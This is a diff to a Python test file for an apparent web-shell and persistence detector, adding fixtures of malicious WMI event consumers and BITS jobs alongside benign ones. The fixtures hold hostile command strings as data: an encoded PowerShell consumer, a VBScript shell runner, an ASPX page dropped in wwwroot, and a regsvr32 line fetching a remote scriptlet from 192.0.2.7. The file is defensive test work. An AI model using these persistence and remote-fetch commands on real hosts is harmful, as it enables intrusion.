@@ -6,6 +6,7 @@ from __future__ import annotations
 from functools import partial
 from typing import Final
 
+from tests.builders.machine_records import bits_queue, consumer_of, wmi_instance, wmi_repository
 from tests.builders.tasks import job_file, task_file
 from tests.persistence.plants import Change, Plant, added, honest, plant
 from webshellhunt.model.verdict import Disposition
@@ -59,7 +60,42 @@ _ODD_TASKS = {
     "configuration written": (r"C:\Windows\System32\inetsrv\appcmd.exe", "add module /name:W /type:W.M,W"),
 }  # fmt: skip
 
+REPOSITORY: Final = "C/Windows/System32/wbem/Repository/OBJECTS.DATA"
+QUEUE: Final = "C/ProgramData/Microsoft/Network/Downloader/qmgr.db"
+
+
+def consumer(kind: str, *texts: str) -> Change:
+    """Return the change that adds a repository of WMI with one consumer."""
+    return added(REPOSITORY, partial(consumer_of, kind, "Updater", *texts))
+
+
+_WMI: tuple[Plant, ...] = (
+    plant(43, "WMI: encoded command", "WSH4081", consumer("CommandLineEventConsumer", f"powershell.exe {_ENCODED}")),
+    plant(43, "WMI: program in public folder", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Users\Public\u.exe")),
+    plant(43, "WMI: program of Windows", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Windows\System32\srvchk.exe -k")),
+    plant(43, "WMI: text in two bytes", "WSH4081", consumer("CommandLineEventConsumer", "C:\\Tools\\\u00fcber\u017e.exe -k")),
+    plant(43, "WMI: script", "WSH4081", consumer("ActiveScriptEventConsumer", "VBScript", 'Set s = Create·Object("WScript.Shell")\ns.Run "a.exe"')),
+    plant(43, "WMI: page written", "WSH4081", consumer("LogFileEventConsumer", r"C:\inetpub\wwwroot\aspnet_client\e.aspx", "inert text")),
+    plant(43, "WMI: stock name, other command", "WSH4081", added(REPOSITORY, partial(consumer_of, "CommandLineEventConsumer", "BVTConsumer", r"C:\Tools\a.exe"))),
+    plant(43, "WMI: folder FS", "WSH4081", added(REPOSITORY.replace("OBJECTS", "FS/OBJECTS"), partial(consumer_of, "CommandLineEventConsumer", "Updater", "a.exe"))),
+    plant(
+        43,
+        "WMI: consumer without binding",
+        "WSH4081",
+        added(REPOSITORY, lambda: wmi_repository(wmi_instance("CommandLineEventConsumer", "a.exe", "Updater"))),
+        least=Disposition.UNEXPLAINED,
+        why="it does not run, or was removed",
+    ),
+    honest(43, "WMI: stock", added(REPOSITORY, wmi_repository)),
+    honest(43, "WMI: consumer of old Windows", added(REPOSITORY, partial(consumer_of, "CommandLineEventConsumer", "BVTConsumer", r"C:\tools\kernrate", "cscript KernCap.vbs"))),
+    honest(43, "WMI: a log is written", consumer("LogFileEventConsumer", r"C:\Logs\events.log", "%TargetEvent%")),
+    plant(42, "BITS: regsvr32 of a server", "WSH4082", added(QUEUE, partial(bits_queue, "backup", r"C:\Windows\System32\regsvr32.exe", "/s /n /u /i:ht·tp://192.0.2.7/a.sct scrobj.dll"))),
+    plant(42, "BITS: program", "WSH4082", added(QUEUE.replace(".db", "0.dat"), partial(bits_queue, "backup", r"C:\Windows\System32\srvchk.exe", "NULL"))),
+    honest(42, "BITS: download", added(QUEUE, partial(bits_queue, "Font Download"))),
+)  # fmt: skip
+
 PLANTS: tuple[Plant, ...] = (
+    *_WMI,
     *(plant(42, f"task: {name}", "WSH4018", task("Updater", *words)) for name, words in _ODD_TASKS.items()),
     plant(
         42,
